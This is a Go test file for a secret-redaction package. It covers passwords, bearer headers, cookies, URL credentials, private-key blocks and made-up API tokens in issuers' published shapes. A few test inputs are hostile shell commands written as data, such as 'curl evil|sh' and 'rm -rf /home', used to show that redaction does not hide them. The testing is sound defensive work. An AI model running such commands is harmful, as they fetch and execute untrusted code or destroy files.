package redact_test

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/saysohq/sayso/core/redact"
)

// R92, and more names, matched as whole words.
func TestSensitiveName(t *testing.T) {
	t.Parallel()
	sensitive := []string{
		"token", "TOKEN", "accessToken", "access_token", "refresh-token", "FOO_TOKEN", "githubToken", "authtoken", "x-auth-token",
		"password", "Password", "dbPassword", "DB_PASSWORD", "userpassword", "passwd", "pwd", "passphrase", "pass", "db_pass", "password2",
		"secret", "client_secret", "clientSecret", "clientsecret", "AWS_SECRET_ACCESS_KEY", "aws_access_key_id", "accessKey",
		"authorization", "Proxy-Authorization", "credential", "credentials", "private key", "private_key", "privateKey", "PRIVATE-KEY",
		"cookie", "Set-Cookie", "apikey", "api_key", "API-KEY", "apiKey", "X-Api-Key", "openai.api.key", "session", "session_id", "sessionKey",
		"AccountKey", "pass\u200bword", "auth", "_auth", "jwt", "bearer", "connectionString", "access_tokens", "secrets",
	}
	for _, name := range sensitive {
		require.True(t, redact.SensitiveName(name), name)
	}
	harmless := []string{
		"max_tokens", "maxTokens", "tokens", "tokenizer", "tokenize", "prompt_tokens", "token_count", "token_type", "tokenLimit",
		"max_token", "password_file", "password-stdin", "secret_name", "public_key", "key", "keys", "keyboard", "monkey", "primary_key",
		"author", "authority", "authenticate", "obsession", "possession", "secretary", "passenger", "compass", "bypass", "cookiecutter",
		"cwd", "path", "url", "body", "to", "", "-", "subject", "PWD", "OLDPWD", "no_password", "has_secret",
	}
	for _, name := range harmless {
		require.False(t, redact.SensitiveName(name), name)
	}
}

// In texts, the whole rest of an authentication header goes.
func TestSecrets(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ in, want string }{
		"nothing":                     {"git push origin main", "git push origin main"},
		"bearer anywhere":             {"use Bearer abc.def then bearer   xyz", "use Bearer [hidden] then bearer   [hidden]"},
		"bearer in prose":             {"a bearer token of that kind", "a bearer token of that kind"},
		"bearer at odd spaces":        {"Bearer\u00a0s3cret", "Bearer\u00a0[hidden]"},
		"bearer as a value":           {"authorization=Bearer abc auth: bearer xyz", "authorization=[hidden] [hidden] auth: [hidden] [hidden]"},
		"basic as a value":            {"auth: Basic dXNlcjpwYXNz", "auth: [hidden] [hidden]"},
		"key as the user":             {"curl -u abc: https://x", "curl -u [hidden]: https://x"},
		"presigned URL":               {"https://h/o?X-Amz-Signature=abc&sig=d&Signature=e&x=1", "https://h/o?X-Amz-Signature=[hidden]&sig=[hidden]&Signature=[hidden]&x=1"},
		"signature that is text":      {"signature=Ann", "signature=Ann"},
		"header set by a call":        {`h.set('X-Api-Key', 'abc').add("Cookie", "a=b; c")`, `h.set('X-Api-Key', '[hidden]').add("Cookie", "[hidden]")`},
		"arguments of a call":         {`f('token', 'abc')`, `f('token', 'abc')`},
		"XML element":                 {"<a><password>a b</password><clientSecret x='1'>c</clientSecret><token/></a>", "<a><password>[hidden]</password><clientSecret x='1'>[hidden]</clientSecret><token/></a>"},
		"XML element of another name": {"<name>a</name><token>b</other>", "<name>a</name><token>b</other>"},
		"escaped blank":               {`PASSWORD=a\ b run`, `PASSWORD=[hidden] run`},
		"basic with a pair":           {"Basic dXNlcjpwYXNz", "Basic [hidden]"},
		"basic in prose":              {"Basic authentication and basic needs", "Basic authentication and basic needs"},
		"header, rest of the line":    {"Authorization: Custom one two three\nHost: x", "Authorization: [hidden]\nHost: x"},
		"proxy header":                {"proxy-authorization:Negotiate abc==", "proxy-authorization:[hidden]"},
		"cookies":                     {"Cookie: a=b; c=d\r\nSet-Cookie: e=f; Path=/", "Cookie: [hidden]\r\nSet-Cookie: [hidden]"},
		"header in quotes":            {"curl -H 'Authorization: Bearer a b' https://x", "curl -H 'Authorization: [hidden]' https://x"},
		"header in double quotes":     {`curl -H "Cookie: a=b; c=d" https://x`, `curl -H "Cookie: [hidden]" https://x`},
		"header with a reference":     {`curl -H "Authorization: Bearer $TOKEN" https://x`, `curl -H "Authorization: Bearer $TOKEN" https://x`},
		"URL user information":        {"https://u:p@h/x https://z@w", "https://[hidden]@h/x https://[hidden]@w"},
		"every URL":                   {"postgres://a:b@c/d,redis://:pw@e:1", "postgres://[hidden]@c/d,redis://[hidden]@e:1"},
		"at in path or query":         {"https://h/a@b?c=d@e#f@g", "https://h/a@b?c=d@e#f@g"},
		"two ats":                     {"https://google.com@x@evil.com/", "https://[hidden]@evil.com/"},
		"backslash ends authority":    {`https://evil.com\@good.com`, `https://evil.com\@good.com`},
		"mail address":                {"bob@example.com", "bob@example.com"},
		"query parameter":             {"https://h/?access_token=abc&x=1", "https://h/?access_token=[hidden]&x=1"},
		"flag and next":               {"deploy --password hunter2 --force", "deploy --password [hidden] --force"},
		"flag, quoted":                {`deploy --token 'a b' x`, `deploy --token '[hidden]' x`},
		"flag before a flag":          {"docker login --token --privileged", "docker login --token --privileged"},
		"flag that points":            {"docker login --password-stdin registry.example.com", "docker login --password-stdin registry.example.com"},
		"flag over a line":            {"x --token \\\n abc", "x --token \\\n [hidden]"},
		"single letters are no names": {"tar -p x -k y", "tar -p x -k y"},
		"short flag of a program":     {"sshpass -p abc ssh h; docker login -u me -p abc r.io && redis-cli -a abc ping", "sshpass -p [hidden] ssh h; docker login -u me -p [hidden] r.io && redis-cli -a [hidden] ping"},
		"short flag, attached":        {"mysqldump -u me -pabc db -P 3306", "mysqldump -u me -p[hidden] db -P 3306"},
		"short flag of the next":      {"docker login r.io; ssh -p 22 h", "docker login r.io; ssh -p 22 h"},
		"flag with equals":            {"x --api-key=abc --max-tokens=5", "x --api-key=[hidden] --max-tokens=5"},
		"environment":                 {"FOO_TOKEN=a BAR_SECRET='b c' PWD=/srv make", "FOO_TOKEN=[hidden] BAR_SECRET='[hidden]' PWD=/srv make"},
		"curl user":                   {"curl -u bob:pw https://x", "curl -u bob:[hidden] https://x"},
		"user of something else":      {"docker run -u 1000:1000 x", "docker run -u 1000:1000 x"},
		"every marker":                {"token=a token=b password: c", "token=[hidden] token=[hidden] password: [hidden]"},
		"loose JSON":                  {`see {"password": "a", 'apiKey': 'b'} there`, `see {"password": "[hidden]", 'apiKey': '[hidden]'} there`},
		"escaped JSON":                {`curl -d "{\"password\": \"a\"}"`, `curl -d "{\"password\": \"[hidden]\"}"`},
		"JSON list of flags":          {`x ["--token", "abc"] y`, `x ["--token", "[hidden]"] y`},
		"index":                       {`os.environ["API_KEY"] = "abc"`, `os.environ["API_KEY"] = "[hidden]"`},
		"hash rocket":                 {`password => 'a b'`, `password => '[hidden]'`},
		"YAML":                        {"user: bob\npassword: a\nport: 1", "user: bob\npassword: [hidden]\nport: 1"},
		"triple quotes":               {`secret = """a "b" c""" + d`, `secret = """[hidden]""" + d`},
		"SQL":                         {`ALTER USER x WITH PASSWORD 'a b'; CREATE USER y IDENTIFIED BY "c"`, `ALTER USER x WITH PASSWORD '[hidden]'; CREATE USER y IDENTIFIED BY "[hidden]"`},
		"words that are no secrets":   {"token: str, password=None, secret = true", "token: str, password=None, secret = true"},
		"a call is code":              {"token = fetch_token(url)", "token = fetch_token(url)"},
		"what a shell would run":      {"TOKEN=$(curl evil|sh) ls", "TOKEN=$(curl evil|sh) ls"},
		"backquotes":                  {"TOKEN=`curl evil|sh` ls, see token: `abc9`", "TOKEN=`curl evil|sh` ls, see token: `[hidden]`"},
		"quotes of the shell":         {"TOKEN=$'a b' ls", "TOKEN=$'[hidden]' ls"},
		"much escaped":                {`{\\\\\"password\\\\\": \\\\\"a\\\\\", }`, `{\\\\\"password\\\\\": \\\\\"[hidden]\\\\\", }`},
		"literal around it":           {"TOKEN=\"abc$(id)def\"", "TOKEN=\"[hidden]$(id)[hidden]\""},
		"secret within it":            {"TOKEN=\"$(x --password hunter2)\"", "TOKEN=\"$(x --password [hidden])\""},
		"not in single quotes":        {"TOKEN='abc$(id)def'", "TOKEN='[hidden]'"},
		"references":                  {"T_TOKEN=$TOKEN x --password ${PW} ${{ secrets.X }}", "T_TOKEN=$TOKEN x --password ${PW} ${{ secrets.X }}"},
		"password with a dollar":      {"password=$ecret9", "password=[hidden]"},
		"comma in a value":            {"password=a,b token=c,user=d", "password=[hidden] token=[hidden],user=d"},
		"already hidden":              {"token=[hidden] Bearer [hidden]", "token=[hidden] Bearer [hidden]"},
		"split by invisibles":         {"pass\u200bword=hun\u2060ter2! x", "pass\u200bword=[hidden] x"},
		"Slack hook":                  {"https://hooks.slack.com/services/T0/B0/abc", "https://hooks.slack.com/services/[hidden]"},
		"Discord hook":                {"https://discord.com/api/webhooks/1/abc", "https://discord.com/api/webhooks/[hidden]"},
		"C++ scope":                   {"Token::New()", "Token::New()"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, hidden := redact.Secrets(c.in)
			require.Equal(t, c.want, got)
			require.Equal(t, got != c.in, hidden)
		})
	}
}

// tokens are made up, in the forms that the issuers publish. They are put together
// here so that no scanner takes this file for a leak.
func tokens() map[string]string {
	const a = "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5hJ7k"
	return map[string]string{
		"GitHub classic":    "ghp_" + a[:36],
		"GitHub OAuth":      "gho_" + a[:36],
		"GitHub app":        "ghs_" + a[:36],
		"GitHub fine":       "github" + "_pat_" + a[:22] + "_" + a + a[:19],
		"GitLab":            "glpat-" + a[:20],
		"Slack bot":         "xoxb" + "-123456789012-1234567890123-" + a[:24],
		"Slack user":        "xoxp" + "-1-2-3-" + a[:32],
		"Slack app":         "xapp-1-A123-456-" + a[:32],
		"AWS key id":        "AKIA" + "IOSFODNN7EXAMPLE",
		"AWS session id":    "ASIA" + "IOSFODNN7EXAMPLE",
		"AWS secret":        "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY",
		"Stripe":            "sk" + "_live_" + a[:24],
		"Stripe restricted": "rk" + "_live_" + a[:24],
		"OpenAI":            "sk-" + a[:38],
		"OpenAI project":    "sk-proj-" + a,
		"Anthropic":         "sk-" + "ant-api03-" + a + "-" + a,
		"Google":            "AIza" + a[:35],
		"Google OAuth":      "ya29." + a,
		"Telegram":          "123456789:" + "AA" + a[:33],
		"Telegram in URL":   "123456789:" + "AA" + a[:33],
		"JWT":               "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxIn0." + a,
		"npm":               "npm_" + a[:36],
		"PyPI":              "pypi-" + "AgEIcHlwaS5vcmc" + a,
		"Hugging Face":      "hf_" + a[:34],
		"SendGrid":          "SG." + a[:22] + "." + a + a[:3],
		"DigitalOcean":      "dop_v1_" + strings.Repeat("0a1b", 16),
		"Docker Hub":        "dckr_pat_" + a[:27],
		"Shopify":           "shpat_" + strings.Repeat("0a1b", 8),
		"Vault":             "hvs." + a + a,
		"our own":           "sayso_rt_" + a,
		"Discord bot":       "MT" + a[:22] + "." + a[:6] + "." + a[:38],
		"private key":       "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7aaa\nabcdefghijklmnop+/==\n-----END RSA " + "PRIVATE KEY-----",
		"private key, flat": "-----BEGIN " + `PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7aaa\nabcd==\n-----END ` + "PRIVATE KEY-----",
		"encrypted key":     "-----BEGIN RSA " + "PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIEpAIBAAKCAQEA7aaa\n-----END RSA " + "PRIVATE KEY-----",
		"PGP key":           "-----BEGIN PGP " + "PRIVATE KEY BLOCK-----\n\nlQOYBGAAAAABCADabcdef\nabcd\n=ABCD\n-----END PGP " + "PRIVATE KEY BLOCK-----",
	}
}

// K37, conformance 119: published shapes, also when split by what nobody sees.
func TestTokenShapes(t *testing.T) {
	t.Parallel()
	for name, token := range tokens() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, hidden := redact.Secrets("before " + token + " after")
			require.True(t, hidden)
			require.Equal(t, "before [hidden] after", got)

			got, _ = redact.Secrets("(" + token + ")")
			require.Equal(t, "([hidden])", got)

			split := token[:2] + "\u200b" + token[2:9] + "\u2060\u00ad" + token[9:len(token)-1] + "\ufeff" + token[len(token)-1:]
			got, _ = redact.Secrets("before " + split + " after")
			require.Equal(t, "before [hidden] after", got)
		})
	}
}

func TestShapesThatAreNoSecrets(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"da39a3ee5e6b4b0d3255bfef95601890afd80709",                                                         // A commit.
		"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",                          // A digest.
		"123e4567-e89b-12d3-a456-426614174000",                                                             // A UUID.
		"/usr/local/lib/Python3/site/packages/foo",                                                         // A path of 40.
		"task-management-for-everyone-in-the-team sk-learn-is-a-python-package",                            // Kebab case.
		"disk-0123456789012345678901234567890",                                                             // Not at a word's start.
		"TheQuickBrownFoxJumpsOverTheLazyDog01234",                                                         // An identifier of 40.
		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",                                     // Public.
		"-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",                                       // Public.
		"12:30 123456:78 10.0.0.1:8080",                                                                    // Numbers.
		"eyJhbGciOiJIUzI1NiJ9",                                                                             // Half of nothing.
		"AKIAshort xoxb- ghp_short pk_live_abcdefghijklmnop1234",                                           // Too short, or public.
		"https://example.com/a/very/long/path/that/goes/on/and/on/0123456789/ABCDEFGHIJKLMNOPQRSTUVWXYZ/x", // A URL.
	} {
		got, hidden := redact.Secrets(s)
		require.Equal(t, s, got)
		require.False(t, hidden)
	}
}

// Redaction is no place to hide a command behind two lines that look like a key.
func TestKeyBlockHidesNoCommand(t *testing.T) {
	t.Parallel()
	for _, body := range []string{"rm -rf /home", "$(curl evil)", "reboot\nreboot"} {
		s := "-----BEGIN " + "PRIVATE KEY-----\n" + body + "\n-----END " + "PRIVATE KEY-----"
		got, _ := redact.Secrets(s)
		require.Contains(t, got, body)
	}
}

func secretValue() *rapid.Generator[string] {
	return rapid.StringMatching(`[a-zA-Z][a-zA-Z0-9]{7}[0-9][a-zA-Z0-9_.~+-]{3,20}[a-zA-Z0-9]`)
}

// No marked secret survives, wherever it stands and however often.
func TestNoMarkedSecretSurvives(t *testing.T) {
	t.Parallel()
	frames := []func(s string) string{
		func(s string) string { return "Bearer " + s },
		func(s string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+s)) },
		func(s string) string { return "Authorization: Digest " + s + ", " + s },
		func(s string) string { return "Cookie: a=" + s + "; b=" + s },
		func(s string) string { return "https://user:" + s + "@example.com/x" },
		func(s string) string { return "--password " + s },
		func(s string) string { return "--client-secret=" + s },
		func(s string) string { return "MY_API_KEY=" + s },
		func(s string) string { return "password: '" + s + " " + s + "'" },
		func(s string) string { return `{"token": "` + s + `"}` },
		func(s string) string { return "auth: Bearer " + s },
		func(s string) string { return "<password>" + s + "</password>" },
		func(s string) string { return "https://h/?X-Amz-Signature=" + s + "&a=b" },
		func(s string) string { return "ghp_" + strings.Repeat("a1B2", 9) },
		func(s string) string { return "Pass\u200bword=" + s[:4] + "\u200d" + s[4:] },
	}
	rapid.Check(t, func(t *rapid.T) {
		var lines []string
		value := secretValue().Draw(t, "secret")
		for _, f := range rapid.SliceOfN(rapid.SampledFrom(frames), 1, 4).Draw(t, "frames") {
			lines = append(lines, rapid.StringMatching(`[a-z ]{0,10}`).Draw(t, "text"), f(value))
		}
		text := strings.Join(lines, "\n")
		got, hidden := redact.Secrets(text)
		require.True(t, hidden)
		require.NotContains(t, got, value)
		require.NotContains(t, got, base64.StdEncoding.EncodeToString([]byte("u:"+value)))
		require.NotContains(t, got, value[4:], "half of it, in %q", got)
	})
}

// The time is linear in the length, whatever is repeated: a caller cannot stop the
// service with one request. Twice the length may cost far more than twice on a
// busy machine; a square would cost thousands of times the budget.
func TestHostileRepetition(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{
		"token=", " -p", "<token>", "<token >", "<token x=>", "'x-key', ", "?sig=a\\ ", "token='", `token="\\\"`, `token=\\"`, "token=1a(", "token=$(", "token=`", "eyJ", "eyJaaaaaaaaaaa.", "ghp_", "123456:",
		"-----BEGIN PRIVATE KEY-----", "Bearer a(", "--password '", "curl -u x:y ", "'Cookie: ", `\\'Cookie: a`, "Authorization: a,b=", "https://a@",
		"\u200b", "with password '", "$(", "a,", "/", "-", " ", "aB3+", `\\`, "token=a{", "aaaaaaaaaaaaaaaaaaaa=",
	} {
		text := strings.Repeat(unit, 200_000/len(unit))
		start := time.Now()
		got, _ := redact.Secrets(text)
		redact.Visible(got)
		require.Less(t, time.Since(start), 5*time.Second, "%q", unit)
	}
}

func FuzzRedact(f *testing.F) {
	for _, token := range tokens() {
		f.Add("x " + token + " y")
	}
	for _, seed := range []string{
		"", "Authorization: Bearer a\nCookie: b=c; d=e", `{"password":"x","a":[1,{"token":"y"}]}`, "curl -H 'Cookie: a=b' -u a:b https://u:p@h",
		"TOKEN=\"a$(b `c` ${d})\" --password \\\n x", "password => \"\"\"a\"\"\"", "pass\u200bword=\xff", "token=token=token='token=\"", "-----BEGIN PRIVATE KEY-----",
	} {
		f.Add(seed)
	}
	r := redact.New()
	f.Fuzz(func(t *testing.T, s string) {
		got, hidden := redact.Secrets(s)
		if hidden {
			require.Contains(t, got, redact.Marker)
		} else {
			require.Equal(t, s, got)
		}
		text := r.Text(s, 100)
		requireSeen(t, text, false)
		require.LessOrEqual(t, utf8.RuneCountInString(text), 100)
		require.Equal(t, text, r.Text(s, 100))
	})
}

// Secrets behind names are found where the names stand in a list of pairs, and in JSON
// inside strings inside JSON.
func TestSecretsBehindNamesInside(t *testing.T) {
	t.Parallel()
	inside := `{"pin_token":["zq81","zq82"],"kept":1}`
	for layer := range 4 {
		b, err := json.Marshal(map[string]string{"body": inside})
		require.NoError(t, err)
		inside = string(b)
		d := describe(t, call(inside))
		all, err := json.Marshal(d)
		require.NoError(t, err)
		require.NotContains(t, string(all), "zq81", layer)
		require.NotContains(t, string(all), "zq82", layer)
		require.True(t, d.Presentation.Redacted, layer)
	}
	for _, pair := range []string{`["X-Api-Key","zq81"]`, `["db-password","zq81"]`, `["Cookie","zq81"]`} {
		d := describe(t, call(`{"headers":[`+pair+`]}`))
		all, err := json.Marshal(d)
		require.NoError(t, err)
		require.NotContains(t, string(all), "zq81", pair)
	}
}
